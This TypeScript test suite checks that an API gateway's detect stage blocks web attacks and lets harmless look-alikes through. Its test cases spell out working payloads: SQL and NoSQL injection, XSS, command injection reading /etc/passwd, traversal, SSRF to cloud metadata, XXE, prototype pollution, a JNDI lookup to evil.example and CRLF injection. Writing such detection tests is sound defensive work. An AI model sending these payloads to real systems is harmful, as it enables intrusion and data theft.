import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGateway, writeConfig, type GatewayProcess } from '../support/gateway-process.js';
import { send, type Reply } from '../support/http-client.js';
import { expectProblem } from '../support/problem-assertions.js';
import { startRecordingUpstream, type RecordingUpstream } from '../support/recording-upstream.js';

/**
 * The detect stage in the real gateway: attacks of every family refused with 403
 * attack-detected and a detect.<family> event that names the rules and where they fired
 * (never the payload); benign look-alikes let through; monitor mode and exclusions.
 */

let upstream: RecordingUpstream;
let gw: GatewayProcess;

beforeAll(async () => {
  upstream = await startRecordingUpstream();
  const file = writeConfig(`
listeners: { http: { host: 127.0.0.1, port: 0 } }
logging: { level: info, access: false }
upstreams: { api: { targets: ['http://127.0.0.1:${upstream.port}'] } }
defaults:
  auth: { public: true }
routes:
  - name: guarded
    paths: [/guarded, /guarded/*]
    methods: [GET, POST]
    upstream: api
    stages: [{ type: detect }]
  - name: watched
    paths: [/watched]
    methods: [GET, POST]
    upstream: api
    stages: [{ type: detect, enforce: false }]
  - name: profiles
    paths: [/profiles]
    methods: [POST]
    upstream: api
    stages:
      - type: detect
        exclusions: [{ rules: [detect.xss], locations: [body./bio] }]
`);
  gw = await startGateway(file);
}, 60_000);

afterAll(async () => {
  await gw?.stop();
  await upstream?.close();
});

interface Attempt {
  readonly path?: string;
  readonly query?: string;
  readonly headers?: Record<string, string>;
  readonly body?: unknown;
}

function attempt(a: Attempt): Promise<Reply> {
  const body = a.body === undefined ? undefined : JSON.stringify(a.body);
  return send(gw.http ?? 0, {
    method: body === undefined ? 'GET' : 'POST',
    path: `${a.path ?? '/guarded'}${a.query === undefined ? '' : `?${a.query}`}`,
    headers: {
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...a.headers,
    },
    body,
  });
}

function eventFor(reply: Reply, event = 'request.denied') {
  const requestId = String(reply.headers['x-request-id']);
  return gw.waitForLog((l) => l.event === event && l.requestId === requestId, 5_000);
}

describe('the detect stage in the gateway', () => {
  it.each([
    // [family, attempt, reason, a rule among those fired, where]
    [
      'sqli',
      { query: 'q=%27%20OR%20%271%27%3D%271' },
      'detect.sqli',
      'detect.sqli.tautology',
      'query.q',
    ],
    [
      'sqli',
      { body: { note: '1; DROP TABLE users' } },
      'detect.sqli',
      'detect.sqli.stacked_query',
      'body./note',
    ],
    [
      'xss',
      { body: { items: [{ name: '<svg/onload=alert(1)>' }] } },
      'detect.xss',
      'detect.xss.event_handler',
      'body./items/0/name',
    ],
    [
      'cmdi',
      { query: 'host=example.com%3Bcat%20/etc/passwd' },
      'detect.cmdi',
      'detect.cmdi.chained_command',
      'query.host',
    ],
    [
      'traversal',
      { query: 'file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
      'detect.traversal',
      'detect.traversal.dot_dot',
      'query.file',
    ],
    [
      'ssrf',
      { body: { webhook: 'http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/' } },
      'detect.ssrf',
      'detect.ssrf.cloud_metadata',
      'body./webhook',
    ],
    [
      'nosql',
      { body: { user: 'admin', password: { $ne: null } } },
      'detect.nosql',
      'detect.nosql.operator_key',
      'body./password/$ne',
    ],
    [
      'nosql',
      { query: 'password[$regex]=.*' },
      'detect.nosql',
      'detect.nosql.operator_key',
      'query.password[$regex]',
    ],
    [
      'proto',
      { body: JSON.parse('{"settings":{"__proto__":{"admin":true}}}') as unknown },
      'detect.proto',
      'detect.proto.polluting_key',
      'body./settings/__proto__',
    ],
    [
      'xxe',
      { body: { xml: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' } },
      'detect.xxe',
      'detect.xxe.entity_declaration',
      'body./xml',
    ],
    [
      'ssti',
      { body: { template: Buffer.from('{{7*7}} hello').toString('base64') } },
      'detect.ssti',
      'detect.ssti.expression',
      'body./template',
    ],
    [
      'jndi',
      { headers: { 'user-agent': '${${lower:j}ndi:ldap://evil.example/a}' } },
      'detect.jndi',
      'detect.jndi.obfuscated_lookup',
      'header.user-agent',
    ],
    [
      'crlf',
      { query: 'next=/home%0d%0aSet-Cookie:%20a=b' },
      'detect.crlf',
      'detect.crlf.header_injection',
      'query.next',
    ],
  ] as const)('refuses %s: %j', async (_family, a, reason, rule, location) => {
    const before = upstream.requests.length;
    const reply = await attempt(a);
    expectProblem(reply, 403, 'attack-detected');
    const line = await eventFor(reply);
    expect(line).toMatchObject({ reason, stage: 'detect', enforced: true });
    const details = line.details as Record<string, unknown>;
    expect(String(details.rules).split(',')).toContain(rule);
    expect(String(details.locations).split(',')).toContain(location);
    expect(details.score).toBeGreaterThanOrEqual(5);
    expect(upstream.requests.length).toBe(before);
  });

  it.each([
    [
      {
        body: {
          name: "Seán O'Brien",
          note: "It's for my son's party; select the blue one please.",
        },
      },
    ],
    [
      {
        body: {
          snippet: 'map.put("key", value); return map.get("key");',
          url: 'https://en.wikipedia.org/wiki/SQL',
        },
      },
    ],
    [{ query: 'q=rock+%26+roll&sort=-price' }],
    [{ body: { template: 'Hello {{name}}, total {{ order.total | currency }}' } }],
    [{ headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0' } }],
    [{ headers: { authorization: "Bearer ' OR 1=1 --" } }],
  ])('lets a benign look-alike through: %j', async (a) => {
    const reply = await attempt(a);
    expect(reply.status, reply.text).toBe(200);
  });

  it.each(['user-agent', 'referer', 'x-note'])(
    'inspects every line of a repeated %s, not only the one Node keeps',
    async (name) => {
      const before = upstream.requests.length;
      // Node's IncomingMessage.headers keeps the first User-Agent or Referer and drops the rest,
      // but every line goes upstream, where another server may read the last.
      const reply = await send(gw.http ?? 0, {
        method: 'GET',
        path: '/guarded',
        headers: { [name]: ['Mozilla/5.0 (X11; Linux x86_64)', '${jndi:ldap://evil.example/a}'] },
      });
      expectProblem(reply, 403, 'attack-detected');
      const line = await eventFor(reply);
      const details = line.details as Record<string, unknown>;
      expect(String(details.locations).split(',')).toContain(`header.${name}`);
      expect(upstream.requests.length).toBe(before);
    },
  );

  it('never writes the payload into the event', async () => {
    const payload = '<script>steal("s3cr3t-token-value")</script>';
    const reply = await attempt({ body: { comment: payload } });
    expectProblem(reply, 403, 'attack-detected');
    const line = await eventFor(reply);
    expect(JSON.stringify(line)).not.toContain('s3cr3t-token-value');
    expect(reply.text).not.toContain('script');
  });

  it('refuses a JSON body it cannot parse rather than let it through unread', async () => {
    const reply = await send(gw.http ?? 0, {
      method: 'POST',
      path: '/guarded',
      headers: { 'content-type': 'application/json' },
      body: '{"a": "<script>", "a": "x"}',
    });
    expectProblem(reply, 400, 'body-rejected');
    expect((await eventFor(reply)).reason).toBe('detect.body.malformed');
  });

  it('in monitor mode (enforce: false) records the attack and lets the request through', async () => {
    const reply = await attempt({
      path: '/watched',
      query: 'q=1%20UNION%20SELECT%20password%20FROM%20users',
    });
    expect(reply.status, reply.text).toBe(200);
    const line = await eventFor(reply, 'request.denied.shadow');
    expect(line).toMatchObject({ reason: 'detect.sqli', enforced: false });
  });

  it('silences an excluded rule at its location, and only there', async () => {
    const ok = await attempt({
      path: '/profiles',
      body: { bio: 'I <3 <b>bold</b> <script>x</script>' },
    });
    expect(ok.status, ok.text).toBe(200);
    const refused = await attempt({
      path: '/profiles',
      body: { name: '<script>x</script>', bio: 'hi' },
    });
    expectProblem(refused, 403, 'attack-detected');
    expect((await eventFor(refused)).reason).toBe('detect.xss');
  });
});
